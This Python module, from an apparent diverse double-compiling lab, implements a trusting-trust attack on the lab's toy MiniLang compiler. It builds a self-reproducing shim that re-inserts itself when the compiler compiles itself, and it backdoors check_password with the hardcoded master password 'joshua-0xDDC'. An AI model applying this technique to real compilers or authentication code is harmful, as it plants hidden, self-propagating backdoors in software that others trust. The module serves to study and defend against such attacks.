"""Trusting-trust shim: trigger/payload specs, the self-referential blob and the splice.

The shim is ordinary MiniLang (``assets/shim.ml``) compiled by T as an object
unit.  Spliced into a compiler image it wraps the entry point: after the real
compiler has written its output, the shim looks at the source it was given and

* if a compiling_self pattern matches, splices itself into the output again,
* else if a compiling_login pattern matches, adds a master-password backdoor.

To splice itself the running shim needs its own serialized object.  It carries
that as a string constant, the *blob*: the shim object whose blob constant has
been replaced by :data:`PLACEHOLDER`.  Splicing substitutes the blob back in
for the placeholder, so every spliced copy holds exactly the bytes needed to
make the next one.  :func:`fixpoint_payload` finds the blob by iteration.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field, replace
from importlib import resources
from typing import Callable

from ..selfhost.toolchain import CompilerPackage
from ..tcompiler import t_compile_object
from ..tcompiler.inputs import SourceTree
from ..vm import isa
from ..vm.image import BytecodeImage, Function, parse_object, validate_image
from ..vm.machine import VmLimits

PLACEHOLDER = b"\x00ddclab-shim-blob\x00"
DEFAULT_MASTER = b"joshua-0xDDC"
SELF_PATTERN = b"fn emit_image("
SELF_PATTERN_2 = b'"MLBC"'
LOGIN_PATTERN = b"fn check_password("
FIXPOINT_BUDGET = 8

HOLES = (b"$SELF_PATTERNS$", b"$LOGIN_PATTERNS$", b"$MASTER$", b"$BLOB$")
ORIG_BEGIN = b"// BEGIN atk_orig\n"
ORIG_END = b"// END atk_orig\n"


class ShimError(ValueError):
    pass


class FixpointError(ShimError):
    def __init__(self, message: str, trace: list[dict]):
        super().__init__(message)
        self.trace = trace


@dataclass(frozen=True)
class TriggerSpec:
    kind: str  # compiling_login | compiling_self
    pattern: bytes

    def __post_init__(self):
        if self.kind not in ("compiling_login", "compiling_self"):
            raise ShimError(f"unknown trigger kind {self.kind!r}")
        if not self.pattern:
            raise ShimError("trigger pattern must be non-empty")


@dataclass(frozen=True)
class PayloadSpec:
    kind: str  # backdoor_password | self_propagate
    data: bytes = b""

    def __post_init__(self):
        if self.kind not in ("backdoor_password", "self_propagate"):
            raise ShimError(f"unknown payload kind {self.kind!r}")


@dataclass(frozen=True)
class ShimSpec:
    triggers: tuple[TriggerSpec, ...]
    payloads: tuple[PayloadSpec, ...]
    # function-table index of the host routine the shim wraps; None = the entry point
    splice_anchor: int | None = None

    def __post_init__(self):
        object.__setattr__(self, "triggers", tuple(self.triggers))
        object.__setattr__(self, "payloads", tuple(self.payloads))

    def patterns(self, kind: str) -> list[bytes]:
        return [t.pattern for t in self.triggers if t.kind == kind]

    @property
    def master(self) -> bytes:
        for p in self.payloads:
            if p.kind == "backdoor_password":
                return p.data
        return b""


def default_shim(master: bytes = DEFAULT_MASTER, self_patterns=(SELF_PATTERN,)) -> ShimSpec:
    return ShimSpec(
        tuple(TriggerSpec("compiling_self", p) for p in self_patterns) + (TriggerSpec("compiling_login", LOGIN_PATTERN),),
        (PayloadSpec("self_propagate"), PayloadSpec("backdoor_password", master)),
    )


def multi_trigger_shim(master: bytes = DEFAULT_MASTER) -> ShimSpec:
    return default_shim(master, (SELF_PATTERN, SELF_PATTERN_2))


# -- template handling -------------------------------------------------------------


def ml_string(data: bytes) -> bytes:
    """A MiniLang string literal denoting ``data``."""
    out = bytearray(b'"')
    for c in data:
        if 0x20 <= c < 0x7F and c not in (0x22, 0x5C):
            out.append(c)
        else:
            out += b"\\x%02x" % c
    out += b'"'
    return bytes(out)


def ml_array(items) -> bytes:
    return b"[" + b", ".join(ml_string(i) for i in items) + b"]"


def template_source() -> bytes:
    return resources.files("ddclab.attack").joinpath("assets", "shim.ml").read_bytes()


def login_source() -> SourceTree:
    """The demo login program the backdoor trigger looks for."""
    data = resources.files("ddclab.attack").joinpath("assets", "login.ml").read_bytes()
    return SourceTree.single(data, "login.ml")


def fill_template(spec: ShimSpec, template: bytes | None = None) -> bytes:
    """Fill every hole except ``$BLOB$``."""
    src = template if template is not None else template_source()
    self_pats = spec.patterns("compiling_self")
    login_pats = spec.patterns("compiling_login")
    kinds = {p.kind for p in spec.payloads}
    if self_pats and "self_propagate" not in kinds:
        raise ShimError("compiling_self triggers need a self_propagate payload")
    if login_pats and "backdoor_password" not in kinds:
        raise ShimError("compiling_login triggers need a backdoor_password payload")
    src = src.replace(b"$SELF_PATTERNS$", ml_array(self_pats))
    src = src.replace(b"$LOGIN_PATTERNS$", ml_array(login_pats))
    return src.replace(b"$MASTER$", ml_string(spec.master))


def _blob_step(template: bytes, k: bytes, literal: Callable[[bytes], bytes]) -> bytes:
    src = template.replace(b"$BLOB$", literal(k))
    obj = t_compile_object(SourceTree.single(src, "shim.ml"))
    consts = tuple(PLACEHOLDER if c == k else c for c in obj.constants)
    return replace(obj, constants=consts).serialize()


@dataclass(frozen=True)
class FixpointResult:
    blob: bytes
    iterations: int
    trace: tuple[dict, ...]


def fixpoint_payload(
    template: bytes,
    trusted=None,
    budget: int = FIXPOINT_BUDGET,
    literal: Callable[[bytes], bytes] = ml_string,
) -> FixpointResult:
    """Find K with K == object(template[K]) where the blob constant reads PLACEHOLDER.

    ``template`` must contain the ``$BLOB$`` hole; ``literal`` renders K into
    source.  ``trusted`` is accepted for symmetry with the other builders; the
    template is always compiled by T.
    """
    if b"$BLOB$" not in template:
        raise ShimError("template has no $BLOB$ hole")
    k = PLACEHOLDER
    trace = []
    for i in range(1, budget + 1):
        nxt = _blob_step(template, k, literal)
        trace.append({"iteration": i, "size": len(nxt), "changed": nxt != k})
        if nxt == k:
            return FixpointResult(k, i, tuple(trace))
        k = nxt
    raise FixpointError(f"payload did not reach a fixpoint within {budget} iterations", trace)


# -- the splice, mirrored by atk_splice / atk_backdoor in shim.ml ----------------------


def _relocate(code: bytes, base_c: int, base_code: int, call_map: Callable[[int], int]) -> bytes:
    out = bytearray()
    pc = 0
    while pc < len(code):
        op = code[pc]
        if op not in isa.OPERANDS:
            raise ShimError(f"shim code has unknown opcode {op:#x} at {pc}")
        n = isa.instr_size(op)
        if op == isa.PUSH_CONST:
            out += bytes([op]) + struct.pack("<I", struct.unpack_from("<I", code, pc + 1)[0] + base_c)
        elif op in (isa.CALL, isa.CALLR):
            out += bytes([op]) + struct.pack("<I", call_map(struct.unpack_from("<I", code, pc + 1)[0]))
        elif op in (isa.JMP, isa.JZ, isa.JNZ):
            out += bytes([op]) + struct.pack("<I", struct.unpack_from("<I", code, pc + 1)[0] + base_code)
        else:
            out += code[pc : pc + n]
        pc += n
    return bytes(out)


def splice_image(host: bytes, blob: bytes, anchor: int | None = None) -> bytes:
    """Splice the shim object ``blob`` into image ``host`` (identity if already spliced)."""
    h = validate_image(host)
    names = [f.name for f in h.functions]
    if b"_main" in names or b"main" not in names:
        return bytes(host)
    entry = names.index(b"main")
    if anchor is not None:
        if not 0 <= anchor < len(names):
            raise ShimError(f"splice anchor {anchor} out of range (host has {len(names)} functions)")
        if anchor != entry:
            raise ShimError(f"splice anchor {anchor} is not the entry point (index {entry})")
    s = parse_object(blob)
    s_names = [f.name for f in s.functions]
    if b"atk_main" not in s_names or b"atk_orig" not in s_names:
        raise ShimError("shim object lacks atk_main/atk_orig")
    orig = s_names.index(b"atk_orig")
    base_c, base_f, base_code = len(h.constants), len(h.functions), len(h.code)
    consts = h.constants + tuple(blob if c == PLACEHOLDER else c for c in s.constants)
    fns = tuple(replace(f, name=b"_main") if i == entry else f for i, f in enumerate(h.functions))
    fns += tuple(
        Function(b"main" if f.name == b"atk_main" else f.name, f.arity, f.code_offset + base_code) for f in s.functions
    )
    code = h.code + _relocate(s.code, base_c, base_code, lambda t: entry if t == orig else t + base_f)
    out = BytecodeImage(consts, fns, code, h.runtime_section).serialize()
    if len(out) > VmLimits().max_output_bytes:
        raise ShimError(f"spliced image ({len(out)} bytes) exceeds the compiler output limit")
    return out


def backdoor_image(host: bytes, master: bytes) -> bytes:
    """Redirect ``check_password`` through a stub accepting ``master`` as its last argument."""
    h = validate_image(host)
    k = h.function_index(b"check_password")
    if k is None or h.functions[k].arity < 1:
        return bytes(host)
    f = h.functions[k]
    stub = (
        isa.encode(isa.LOAD, f.arity - 1)
        + isa.encode(isa.PUSH_CONST, len(h.constants))
        + isa.encode(isa.EQ)
        + isa.encode(isa.JZ, f.code_offset)
        + isa.encode(isa.PUSH_I64, 1)
        + isa.encode(isa.RET)
    )
    fns = list(h.functions)
    fns[k] = replace(f, code_offset=len(h.code))
    return BytecodeImage(h.constants + (master,), tuple(fns), h.code + stub, h.runtime_section).serialize()


# -- building and applying -------------------------------------------------------------


@dataclass(frozen=True)
class Shim:
    spec: ShimSpec
    source: bytes  # filled template, blob hole still open
    blob: bytes
    fixpoint: FixpointResult = field(compare=False)

    def source_with_blob(self) -> bytes:
        return self.source.replace(b"$BLOB$", ml_string(self.blob))

    def popup_source(self, orig_call: bytes = b"_main()") -> bytes:
        """Shim source for inclusion in a compiler's own source: atk_orig calls ``orig_call``."""
        src = self.source_with_blob()
        a = src.index(ORIG_BEGIN)
        b = src.index(ORIG_END) + len(ORIG_END)
        return src[:a] + b"fn atk_orig() {\n    return " + orig_call + b"\n}\n" + src[b:]


_CACHE: dict[ShimSpec, Shim] = {}


def build_shim(spec: ShimSpec | None = None) -> Shim:
    spec = spec or default_shim()
    if spec not in _CACHE:
        src = fill_template(spec)
        fp = fixpoint_payload(src)
        _CACHE[spec] = Shim(spec, src, fp.blob, fp)
    return _CACHE[spec]


def splice_shim(clean: CompilerPackage, shim: ShimSpec | Shim | None = None) -> CompilerPackage:
    """A_mal: the clean source and runtime with a subverted compiler image."""
    if not isinstance(shim, Shim):
        shim = build_shim(shim)
    image = splice_image(clean.compiler_image, shim.blob, shim.spec.splice_anchor)
    return replace(clean, name=f"{clean.name}+shim", compiler_image=image)
